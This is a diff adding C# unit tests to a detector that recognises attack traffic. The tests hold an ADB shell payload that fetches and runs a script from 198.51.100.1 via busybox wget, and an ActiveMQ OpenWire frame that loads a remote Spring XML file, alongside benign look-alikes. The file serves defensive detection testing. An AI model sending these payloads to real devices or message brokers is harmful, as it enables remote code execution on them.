@@ -169,4 +169,16 @@ public class IndicatorPeekTests
         p.AsSpan(82).Fill(fill);
         return p;
     }
+
+    private static byte[] Debugger(string service) =>
+        [.. "OPEN"u8, 1, 0, 0, 0, 0, 0, 0, 0, (byte)service.Length, 0, 0, 0, 0, 0, 0, 0, 0xFF - (byte)'O', 0xFF - (byte)'P', 0xFF - (byte)'E', 0xFF - (byte)'N', .. Encoding.ASCII.GetBytes(service)];
+
+    [Fact]
+    public void A_debugger_that_is_told_to_load_a_program_and_a_broker_told_to_make_a_class_are_attacked()
+    {
+        Assert.Equal("adb-shell", Look(Debugger("shell:cd /data/local/tmp; busybox wget http://198.51.100.1/a; sh a"))!.Name);
+        Assert.Null(Look(Debugger("shell:getprop ro.product.model")));
+        Assert.Equal("openwire", Look([0, 0, 0, 120, 31, .. new byte[10], .. "org.springframework.context.support.ClassPathXmlApplicationContext"u8, 1, 0, 30, .. "http://198.51.100.1/poc.xml"u8])!.Name);
+        Assert.Null(Look([0, 0, 0, 120, 31, .. new byte[10], .. "java.lang.IllegalStateException: see http://activemq.example/ for what it means, and then"u8]));
+    }
 }
